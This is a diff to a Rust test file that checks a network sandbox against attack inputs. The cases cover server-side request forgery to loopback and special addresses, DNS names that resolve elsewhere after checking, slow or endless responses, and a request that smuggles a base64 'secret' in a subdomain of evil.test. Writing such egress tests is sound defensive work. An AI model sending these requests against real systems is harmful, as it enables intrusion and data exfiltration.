@@ -1,6 +1,6 @@
 //! Requests that must not leave, and answers that must not be read to their end.
 
-use super::{ATTACK, Attack};
+use super::{ATTACK, Attack, OPEN, Open};
 
 const GET: &str =
     "links:\n  get: {kind: http, timeout: 2s, with: {url: '${input.url}'}}\noutput: ${get.body}\n";
@@ -30,6 +30,7 @@ pub(super) const ATTACKS: &[Attack] = &[
         ],
         ends: &["refused no-grant", "refused bad-address"],
         after: |stage| stage.no_name_was_asked(),
+        open: Some(Open { swaps: &[("https://*.example.com", "https://evilexample.com")], ..OPEN }),
         ..ATTACK
     },
     Attack {
@@ -44,6 +45,7 @@ pub(super) const ATTACKS: &[Attack] = &[
         ],
         ends: &["refused no-grant"],
         after: |stage| stage.no_name_was_asked(),
+        open: Some(Open { swaps: &[("api.example.com\" }", "api.example.com:22\" }")], ..OPEN }),
         ..ATTACK
     },
     Attack {
@@ -54,6 +56,13 @@ pub(super) const ATTACKS: &[Attack] = &[
         inputs: &[r#"{"url": "http://127.0.0.1:@PORT@/away"}"#],
         ends: &["refused no-grant"],
         after: |stage| stage.no_name_was_asked(),
+        open: Some(Open {
+            swaps: &[(
+                "net = [",
+                "net = [{ address = \"http://localhost:@PORT@\", resolves_to = [\"127.0.0.1\"] }, ",
+            )],
+            ..OPEN
+        }),
         ..ATTACK
     },
     Attack {
@@ -64,6 +73,7 @@ pub(super) const ATTACKS: &[Attack] = &[
         inputs: &[r#"{"url": "http://db.example.com:@PORT@/"}"#],
         ends: &["refused special-address"],
         after: |stage| stage.nobody_came(),
+        open: Some(Open { swaps: &[("@PORT@\" }", "@PORT@\", resolves_to = [\"127.0.0.1\"] }")], ..OPEN }),
         ..ATTACK
     },
     Attack {
@@ -84,6 +94,29 @@ pub(super) const ATTACKS: &[Attack] = &[
         ],
         ends: &["refused "],
         after: |stage| stage.nobody_came(),
+        open: Some(Open { swaps: &[("http://*.example.com", "http://127.0.0.1")], ..OPEN }),
+        ..ATTACK
+    },
+    Attack {
+        class: 5,
+        what: "a name that leads elsewhere once it was checked",
+        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://db.example.com:@PORT@\", resolves_to = [\"127.0.0.1\"] }]\n",
+        chain: GET,
+        inputs: &[r#"{"url": "http://db.example.com:@PORT@/"}"#],
+        ends: &["\"hi\""],
+        names: &["127.0.0.1", "127.0.0.2"],
+        after: |stage| stage.the_first_address_counted(),
+        ..ATTACK
+    },
+    Attack {
+        class: 5,
+        what: "a name that leads elsewhere at the second call",
+        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://db.example.com:@PORT@\", resolves_to = [\"127.0.0.1\"] }]\n",
+        chain: "links:\n  one: {kind: http, timeout: 2s, with: {url: '${input.url}'}}\n  two: {kind: http, timeout: 2s, after: [one], with: {url: '${input.url}'}}\noutput: ${two.body}\n",
+        inputs: &[r#"{"url": "http://db.example.com:@PORT@/"}"#],
+        ends: &["refused special-address"],
+        names: &["127.0.0.1", "127.0.0.2"],
+        open: Some(Open { swaps: &[("[\"127.0.0.1\"]", "[\"127.0.0.0/8\"]")], ..OPEN }),
         ..ATTACK
     },
     Attack {
@@ -94,15 +127,27 @@ pub(super) const ATTACKS: &[Attack] = &[
         inputs: &[r#"{"url": "https://c2VjcmV0.evil.test/"}"#],
         ends: &["refused no-grant"],
         after: |stage| stage.no_name_was_asked(),
+        open: Some(Open { swaps: &[("https://api.example.com", "https://*.evil.test")], ..OPEN }),
         ..ATTACK
     },
     Attack {
         class: 7,
-        what: "an answer without end, and one that trickles",
+        what: "an answer that trickles",
+        project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://127.0.0.1:@PORT@\" }]\n",
+        chain: GET,
+        inputs: &[r#"{"url": "http://127.0.0.1:@PORT@/slow"}"#],
+        ends: &["`t.get` failed: timeout: it took longer than 2000 ms"],
+        open: Some(Open { swaps: &[("timeout: 2s", "timeout: 60s")], ..OPEN }),
+        ..ATTACK
+    },
+    Attack {
+        class: 7,
+        what: "an answer without end",
         project: "[[grant]]\nto = \"t\"\nreason = \"selftest\"\nnet = [{ address = \"http://127.0.0.1:@PORT@\", response_max = \"1MiB\" }]\n",
         chain: GET,
-        inputs: &[r#"{"url": "http://127.0.0.1:@PORT@/much"}"#, r#"{"url": "http://127.0.0.1:@PORT@/slow"}"#],
-        ends: &["`t.get` failed: too-large", "`t.get` failed: timeout"],
+        inputs: &[r#"{"url": "http://127.0.0.1:@PORT@/much"}"#],
+        ends: &["`t.get` failed: too-large: the answer is larger than 1048576 bytes"],
+        open: Some(Open { swaps: &[("1MiB", "2MiB")], ..OPEN }),
         ..ATTACK
     },
     Attack {
